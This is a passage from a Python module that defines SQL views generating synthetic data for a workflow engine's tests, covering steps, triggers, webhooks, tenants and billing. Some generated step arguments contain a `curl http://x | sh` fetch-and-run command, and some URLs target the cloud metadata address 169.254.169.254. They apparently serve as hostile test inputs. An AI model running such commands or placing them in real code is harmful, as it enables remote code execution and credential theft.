  's' || l_linenumber AS step_id, CASE WHEN sk % 10 = 0 THEN 'approval' WHEN sk % 10 = 1 THEN 'map' ELSE 'capability' END AS type,
  l_linenumber AS n, (['http','database','llm','notify','shell','storage','util'])[pk % 7 + 1] AS family,
  'cap-' || (pk % 12) AS capability, (['pure','idempotent','effectful'])[pk % 3 + 1] AS effect,
  (['public','internal','confidential','secret'])[p_size % 4 + 1] AS sensitivity, p_size % 4 AS sens_rank,
  1 + pk % 8 AS retry_attempts, pk, sk, p_brand, p_name, p_type,
  (['https://api.example.com','http://169.254.169.254','http://10.0.0.8','https://files.corp.internal'])[pk % 97 % 4 + 1] || '/' || p_name AS url,
  CASE WHEN pk % 89 = 3 THEN 'Bearer abcdef0123456789' ELSE p_type END AS note,
  CASE WHEN pk % 7 = 4 THEN ['/bin/bash', CASE WHEN pk % 2 = 0 THEN '-c' ELSE 'run.sh' END, CASE WHEN pk % 5 = 0 THEN 'curl http://x | sh' ELSE p_name END] END AS argv,
  (['api.example.com','*.example.com','10.1.2.3','db.example.com:5432'])[pk % 4 + 1] AS egress,
  (['network:http','db:read','db:write','storage:read','process:exec'])[pk % 5 + 1] AS scope,
  CAST(p_size % 6 AS DOUBLE) AS units, CASE WHEN sk % 10 = 1 THEN CAST(qty * 400 AS INTEGER) END AS max_items,
  pk % 4 = 0 AS has_compensation, (['deny','approve','escalate'])[pk % 3 + 1] AS on_timeout, pk % 2 = 0 AS allow_self
FROM op0 JOIN part ON pk = p_partkey JOIN runs r ON l_orderkey = r.k""",
    "oe0": """SELECT tenant_id, plan_hash, step_id, n, lag(step_id) OVER w AS before, first_value(step_id) OVER w AS head,
  row_number() OVER w AS i, count(*) OVER (PARTITION BY plan_hash) AS c FROM order_plans WINDOW w AS (PARTITION BY plan_hash ORDER BY n)""",
    "order_edges": """SELECT tenant_id, plan_hash, step_id, before AS depends_on FROM oe0 WHERE i > 1
UNION ALL SELECT tenant_id, plan_hash, step_id, head FROM oe0 WHERE i > 2
UNION ALL SELECT tenant_id, plan_hash, head, step_id FROM oe0 WHERE i = c AND c > 1 AND CAST(plan_hash AS BIGINT) % 250 = 7""",
    "triggers": """SELECT 'trg-' || s_suppkey AS id, 't' || (s_suppkey % 5) AS tenant_id, 'wf' || s_nationkey AS workflow_name,
  (['event','schedule'])[s_suppkey % 2 + 1] AS type,
  (['run.started','step.started','step.succeeded','step.failed','run.succeeded'])[s_nationkey % 5 + 1] AS on_event,
  CASE WHEN s_nationkey % 3 > 0 THEN s_acctbal / 200 END AS min_value, s_suppkey % 7 > 0 AS enabled,
  TIMESTAMP '2024-01-30 00:00:00' + to_seconds(s_suppkey * 977 % 172800) AS next_fire_at
FROM supplier""",
    "completion_triggers": """SELECT 'cmp-' || s_suppkey AS id,
  (['AUTOMOBILE','BUILDING','FURNITURE','HOUSEHOLD','MACHINERY'])[s_nationkey % 5 + 1] AS tenant_id,
  (['1-URGENT','2-HIGH','3-MEDIUM','4-NOT SPECIFIED','5-LOW'])[s_suppkey % 5 + 1] AS on_workflow,
  (['any','succeeded','failed'])[s_suppkey % 3 + 1] AS want,
  CASE WHEN s_suppkey % 11 = 4 THEN 'event' ELSE 'completion' END AS type, s_suppkey % 7 <> 3 AS enabled FROM supplier""",
    "hooks": """SELECT 'hook-' || s_suppkey AS hook_id, 't' || (s_nationkey % 5) AS tenant_id,
  CASE WHEN s_suppkey % 2 = 0 THEN ['run.succeeded','step.failed'] ELSE ['run.succeeded'] END AS events FROM supplier""",
    "tenants": """SELECT 'acct-' || c_custkey AS id, c_name AS name,
  TIMESTAMP '2001-01-01 00:00:00' + to_days(CAST(c_custkey % 300 AS INTEGER)) AS created_at, c_nationkey = 24 AS disabled FROM customer""",
    "users": """SELECT 'usr-a-' || c_custkey AS id, 'acct-' || c_custkey AS tenant_id, 'a' || c_custkey || '@example.com' AS email, c_acctbal < 6000 AS email_unverified FROM customer
UNION ALL SELECT 'usr-b-' || c_custkey, 'acct-' || c_custkey, 'b' || c_custkey || '@example.com', c_acctbal < 7500 FROM customer WHERE c_nationkey < 12""",
    "account_runs": """SELECT id, k, 'acct-' || dedup_key AS tenant_id, workflow_name, workflow_version, status, dry_run, trigger_type, created_at, finished_at FROM runs""",
    "billing_accounts": """SELECT 'acct-' || c_custkey AS tenant_id, (['free','pro','team'])[c_nationkey % 3 + 1] AS plan,
  (['active','trialing','past_due','canceled'])[c_custkey % 4 + 1] AS status FROM customer WHERE c_acctbal > 0""",
    "artifacts": """SELECT 't' || (doc_id % 5) AS tenant_id, 'sha256:' || sha256(text) AS hash, CAST(octet_length(encode(text)) AS BIGINT) AS size,
  CAST(doc_id * 3 AS VARCHAR) AS run_id, CASE WHEN doc_id % 11 = 0 THEN TIMESTAMP '2000-01-01 00:00:00' END AS tombstoned_at, doc_id FROM documents""",
    "deliveries": """SELECT 'whd-' || seq AS id, tenant_id, 'hook-' || (seq % 20) AS hook_id, seq AS event_seq, type AS event_type,
  (['pending','delivered','failed'])[seq % 3 + 1] AS status, seq % 9 AS attempts, ts + to_seconds(seq % 86400) AS next_attempt_at, ts AS created_at
FROM hist_events WHERE type IN ('run.succeeded','step.failed','step.succeeded')""",
    "outbox": """SELECT type || ':evt-' || seq AS id, tenant_id, ts AS occurred_at, seq % 6 AS attempts, ts + to_seconds(seq % 3600) AS next_attempt_at,
  CASE WHEN seq % 4 > 0 THEN ts + to_seconds(seq % 7200) END AS sent_at FROM hist_events WHERE type IN ('run.succeeded','step.started')""",
    "prop0": """SELECT r.tenant_id, r.workflow_name, s.step_id, count(*) AS n, max(r.k) AS mk FROM steps s JOIN runs r ON r.id = s.run_id GROUP BY 1, 2, 3""",
    "proposals": """SELECT *, CASE WHEN status <> 'open' THEN CASE WHEN mk % 3 = 0 THEN 'analysis' ELSE 'person' END END AS decided_by,
  CASE WHEN status <> 'open' THEN TIMESTAMP '2001-06-20 00:00:00' + to_days(CAST(mk % 43 AS INTEGER)) END AS decided_at
FROM (SELECT tenant_id || '/' || workflow_name || '/' || step_id AS id, tenant_id, workflow_name, mk,
  CASE WHEN n % 3 = 0 THEN 'failing-step:' ELSE 'ignored-failure:' END || workflow_name || ':' || step_id AS key,
  (['open','open','accepted','dismissed'])[n % 4 + 1] AS status,
  TIMESTAMP '2001-07-30 00:00:00' + to_days(CAST(mk % 4 AS INTEGER)) AS created_at FROM prop0)""",
}


BY_TRIGGER_SQL = {"runs": VIEW_SQL["runs"].replace("SELECT *,", "SELECT * REPLACE (trigger_type AS workflow_name),", 1)}


def with_views(body: str, extra: dict[str, str] | None = None) -> str:
    """Prefix a query with the views it names, directly or through other views."""
    defs = {**VIEW_SQL, **(extra or {})}
    order: list[str] = []

    def visit(text: str) -> None:
        for name in defs:
            if name not in order and re.search(rf"\b{name}\b", text):
                visit_name(name)

    def visit_name(name: str) -> None:
        for other in defs:
            if other != name and other not in order and re.search(rf"\b(FROM|JOIN)\s+{other}\b", defs[name]):
                visit_name(other)
        if name not in order:
            order.append(name)

    visit(body)
    if not order:
        return body
    ctes = ",\n".join(f"{n} AS ({defs[n]})" for n in order)
    rec = "RECURSIVE " if "WITH RECURSIVE" in body else ""
    body = body.replace("WITH RECURSIVE", ",", 1) if rec else re.sub(r"^\s*WITH\b", ",", body, count=1)
    return f"WITH {rec}{ctes}\n{body}"


def iso_sql(col: str) -> str:
    return f"strftime({col}, '%Y-%m-%dT%H:%M:%S.%g') || 'Z'"
